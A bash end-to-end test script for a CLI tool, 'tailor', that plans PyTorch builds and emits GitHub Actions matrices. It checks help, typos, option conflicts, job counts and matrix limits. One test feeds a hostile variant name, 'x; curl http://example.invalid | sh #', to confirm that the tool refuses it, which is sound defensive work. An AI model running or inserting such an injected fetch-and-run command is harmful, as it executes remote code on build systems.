#!/usr/bin/env bash
# Input checks of plan / doctor / matrix / build through the real binary: usage, help and
# unknown commands, the doctor's
# positional, platforms implied by GPUs and instances, --arch with --gpu, --jobs, --out
# on a file, the sh script's folders, matrix value checks, size limit and hostile names.
# Needs no GPU and no nvcc (only planning and refusals run).
set -euo pipefail
: "${TAILOR:?}" "${TAILOR_SOURCE_DIR:?}"
tmp=$(mktemp -d)
trap 'rm -rf "$tmp"' EXIT
# shellcheck source=lib/common.sh
. "$(dirname "$0")/lib/common.sh"  # fail
# run NAME WANT_EXIT ARGS...: output in $tmp/NAME.out / .err
run() {
  local name=$1 want=$2
  shift 2
  set +e
  "$TAILOR" "$@" > "$tmp/$name.out" 2> "$tmp/$name.err"
  local rc=$?
  set -e
  [ "$rc" = "$want" ] || { cat "$tmp/$name.out" "$tmp/$name.err"; fail "$name: exit $rc, want $want ($*)"; }
}
has() { grep -qF -- "$2" "$tmp/$1" || { cat "$tmp/$1"; fail "$1 lacks: $2"; }; }
lines() { wc -l < "$tmp/$1" | tr -d ' '; }

# A bare `tailor` is usage on stderr (exit 2); `tailor help [COMMAND]` is help (exit 0); an
# unknown command names the nearest ones.
run bare 2
has bare.err "Usage: tailor"
has bare.err "inspect"
run help 0 help
has help.out "Usage: tailor"
run help_build 0 help build
has help_build.out "--arch"
run typo 2 biuld --arch 8.0
has typo.err "unknown command 'biuld' (did you mean 'build'?)"
[ "$(lines typo.err)" = 1 ] || fail "typo: more than one line"
run help_typo 2 help inpsect
has help_typo.err "did you mean 'inspect'?"
run nonsense 2 xyzzy
has nonsense.err "unknown command 'xyzzy'; \`tailor help\` lists the commands"

# The doctor's positional (it crashed with SIGSEGV): a normal exit code, for any word.
run doctor_torch 2 doctor torch --torch 2.9.1 --cpu-only --python 3.8
has doctor_torch.out "Pre-flight checks"
run doctor_other 2 doctor xformers --torch 2.9.1 --cpu-only
has doctor_other.err "doctor: only 'torch' can be checked here"

# A GPU or instance of one platform implies it (and its CPU); a contradicting
# --platform is one error line, exit 2.
run g5g 0 plan --torch 2.9.1 --cuda 12.8 --python 3.12 --gpu g5g.xlarge --format json
python3 - "$tmp/g5g.out" <<'PY' || fail "g5g plan"
import json, sys
p = json.load(open(sys.argv[1]))
assert p["platform"] == "aarch64", p["platform"]
assert p["wheel_name"].endswith("_aarch64.whl"), p["wheel_name"]
assert "platform aarch64 implied by g5g.xlarge" in p["notes"], p["notes"]
assert "-mcpu=neoverse-n1" in p["env"]["CXXFLAGS"], p["env"]["CXXFLAGS"]
PY
run t4g 0 plan --torch 2.9.1 --cuda 12.8 --python 3.12 --gpu T4G
has t4g.out "platform aarch64 implied by T4G"
run conflict 2 plan --torch 2.9.1 --cuda 12.8 --python 3.12 --gpu g5g.xlarge --platform x86_64
has conflict.err "platform x86_64 conflicts with g5g.xlarge, which exists only on aarch64"
[ "$(grep -c '^tailor: error: ' "$tmp/conflict.err")" = 2 ] || fail "one error line (the problem, then the summary)"
run doctor_conflict 2 doctor --torch 2.9.1 --cuda 12.8 --python 3.12 --gpu T4G --platform x86_64
has doctor_conflict.out "platform x86_64 conflicts with T4G"

# --arch and --gpu are two ways to say one thing: both is an error, for every command.
run both_plan 2 plan --torch 2.9.1 --cuda 12.8 --arch 8.0 --gpu T4G
has both_plan.err "tailor: error: use --arch or --gpu, not both"
run both_doctor 2 doctor --torch 2.9.1 --cuda 12.8 --arch 8.0 --gpu A10G
has both_doctor.err "use --arch or --gpu, not both"
run both_build_torch 2 build torch --torch 2.9.1 --cuda 12.8 --arch 8.0 --gpu A10G --work-dir "$tmp/w"
has both_build_torch.err "use --arch or --gpu, not both"
run both_build 2 build --arch 8.0 --gpu A10G --out "$tmp/o"
has both_build.err "use --arch or --gpu, not both"

# --jobs: MAX_JOBS of the plan; below 1 is exit 2 before anything runs.
run jobs 0 plan --torch 2.9.1 --cpu-only --python 3.12 --jobs 3 --format json
python3 -c 'import json,sys; p=json.load(open(sys.argv[1])); assert p["env"]["MAX_JOBS"]=="3", p["env"]["MAX_JOBS"]' "$tmp/jobs.out" \
  || fail "MAX_JOBS from --jobs"
run jobs0 2 plan --torch 2.9.1 --cpu-only --jobs 0
has jobs0.err "--jobs 0: must be at least 1"
run jobs0_build 2 build torch --torch 2.9.1 --cpu-only --jobs 0 --work-dir "$tmp/w"
has jobs0_build.err "--jobs 0: must be at least 1"
[ ! -e "$tmp/w" ] || fail "--jobs 0 created the work folder"

# --out naming a file: exit 2 before any work.
touch "$tmp/afile"
run out_torch 2 build torch --torch 2.9.1 --cpu-only --out "$tmp/afile" --work-dir "$tmp/w"
has out_torch.err "--out $tmp/afile: exists and is not a folder"
[ ! -e "$tmp/w" ] || fail "--out on a file created the work folder"
run out_build 2 build --arch 8.0 --out "$tmp/afile" --work-dir "$tmp/w2"
has out_build.err "--out $tmp/afile: exists and is not a folder"
[ ! -e "$tmp/w2" ] || fail "--out on a file created the work folder"

# The sh script: the default (relative) work folder is read against the folder the
# script starts in, not where tailor ran, and every step uses it through $TAILOR_WORK.
mkdir -p "$tmp/cwd"
(cd "$tmp/cwd" && "$TAILOR" plan --torch 2.9.1 --cpu-only --python 3.12 --format sh > "$tmp/plan.sh" 2> "$tmp/plan.err") \
  || { cat "$tmp/plan.err"; fail "plan --format sh"; }
bash -n "$tmp/plan.sh" || fail "plan.sh syntax"
has plan.sh "TAILOR_WORK=\"\$(pwd)\"/tailor-work"
has plan.sh "(cd \"\$TAILOR_SOURCE\" && \"\$TAILOR_WORK\"/venv/bin/python -m pip install"
grep -q "$tmp/cwd" "$tmp/plan.sh" && fail "the script names the folder tailor ran in"
# The JSON plan carries absolute paths.
(cd "$tmp/cwd" && "$TAILOR" plan --torch 2.9.1 --cpu-only --python 3.12 --format json > "$tmp/abs.json" 2> /dev/null)
python3 - "$tmp/abs.json" "$tmp/cwd" <<'PY' || fail "absolute layout"
import json, os, sys
p, cwd = json.load(open(sys.argv[1])), os.path.realpath(sys.argv[2])
assert os.path.realpath(p["layout"]["work_dir"]) == cwd + "/tailor-work", p["layout"]
for s in p["steps"]:
    assert not s["cwd"] or s["cwd"].startswith("/"), s
    for a in s["argv"]:
        assert "tailor-work" not in a or a.startswith("/"), s
PY

# matrix: every axis value against tailor's data, all problems at once, exit 2.
cat > "$tmp/bad.toml" <<'TOML'
[defaults]
torch = "2.9.1"
[matrix]
gpu = ["8.0", "hoper"]
cpu = ["avx2", "avx9000"]
python = ["3.12", "3.39"]
TOML
run matrix_bad 2 matrix --config "$tmp/bad.toml"
has matrix_bad.err "3 problems:"
has matrix_bad.err "matrix.gpu[1]: 'hoper' is not a GPU target"
has matrix_bad.err "matrix.cpu[1]: 'avx9000' is not a CPU target tailor knows"
has matrix_bad.err "matrix.python[1]: Python 3.39 is not supported by torch 2.9.1"
[ "$(lines matrix_bad.out)" = 0 ] || fail "a bad matrix printed variants"

# ~1 KB of tailor.toml that would expand to 256,000 builds: refused with the count.
v40() { python3 -c 'import sys; print(", ".join(["\"%s\"" % sys.argv[1]] * 40))' "$1"; }
printf '[defaults]\ntorch = "2.9.1"\n[matrix]\ngpu = [%s]\ncpu = [%s]\ncuda = [%s]\npython = ["3.10", "3.11", "3.12", "3.13"]\n' \
  "$(v40 8.0)" "$(v40 avx2)" "$(v40 12.8)" > "$tmp/big.toml"
run matrix_big 2 matrix --config "$tmp/big.toml" --emit github-actions
has matrix_big.err "the matrix expands to 256000 variants (cpu 40 x cuda 40 x gpu 40 x python 4), more than the limit of 512"
[ "$(lines matrix_big.out)" = 0 ] || fail "a refused matrix wrote a workflow"

# Hostile variant names never reach the workflow.
printf '[variant."x; curl http://example.invalid | sh #"]\ntorch = "2.9.1"\narch = "8.0"\n' > "$tmp/evil.toml"
run evil 2 matrix --config "$tmp/evil.toml" --emit github-actions
has evil.err "is not a valid name (1-64 of A-Z a-z 0-9 . _ -)"
[ "$(lines evil.out)" = 0 ] || fail "a hostile name wrote a workflow"

# The workflow: absolute paths under the workspace, runner of the implied platform.
cat > "$tmp/arm.toml" <<'TOML'
[defaults]
torch = "2.9.1"
[variant.graviton]
arch = "g5g.xlarge"
TOML
run wf 0 matrix --config "$tmp/arm.toml" --emit github-actions
if python3 -c 'import yaml' 2> /dev/null; then
  python3 - "$tmp/wf.out" <<'PY' || fail "workflow content"
import sys, yaml
wf = yaml.safe_load(open(sys.argv[1]))
job = wf["jobs"]["graviton"]
# A GPU variant (T4G implies aarch64): a self-hosted arm64 GPU runner, never a hosted one.
assert job["runs-on"] == ["self-hosted", "linux", "arm64", "gpu"], job["runs-on"]
build = [s for s in job["steps"] if s.get("name") == "Build"][0]
run = build["run"].splitlines()[-1]
ws = "${{ github.workspace }}"
assert run.startswith("tailor build torch --config "), run
assert "--work-dir '" + ws + "/tailor-work/graviton' --cache sccache --out '" + ws + "/dist/graviton'" in run, run
upload = [s for s in job["steps"] if s.get("uses", "").startswith("actions/upload-artifact@")][0]
assert upload["with"]["path"].splitlines()[0] == ws + "/dist/graviton/", upload
PY
fi
run list 0 matrix --config "$tmp/arm.toml"
grep -q '^graviton .* aarch64$' "$tmp/list.out" || { cat "$tmp/list.out"; fail "list shows the implied platform"; }
echo "plan/cli checks e2e: ok"
